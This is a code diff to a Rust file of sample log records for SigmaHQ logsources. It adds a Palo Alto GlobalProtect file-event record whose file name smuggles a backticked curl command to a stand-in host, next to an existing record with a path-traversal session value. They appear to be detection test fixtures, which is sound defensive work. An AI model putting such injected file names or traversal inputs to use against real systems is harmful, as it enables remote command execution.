@@ -1,5 +1,4 @@
-//! Every logsource besides Windows' that SigmaHQ's rules name and a sender can produce, and a record of
-//! each as its sender writes it.
+//! Every logsource besides Windows' that SigmaHQ's rules name, and a record of each as its sender writes it.
 
 use logwarden_event::Logsource;
 
@@ -233,6 +232,10 @@ const RECORDS: &[(&str, &str)] = &[
     (
         "paloalto/appliance/globalprotect",
         r#"{"level":"error","task":"1393405-22","time":"2026-01-02T03:04:05.678901-07:00","message":"failed to unmarshal session(../../../../opt/panlogs/tmp/device_telemetry/minute/x) map , EOF"}"#,
+    ),
+    (
+        "paloalto/file_event/globalprotect",
+        r#"{"TargetFilename":"/opt/panlogs/tmp/device_telemetry/minute/`curl${IFS}x.example`"}"#,
     ),
     (
         "python/application/",
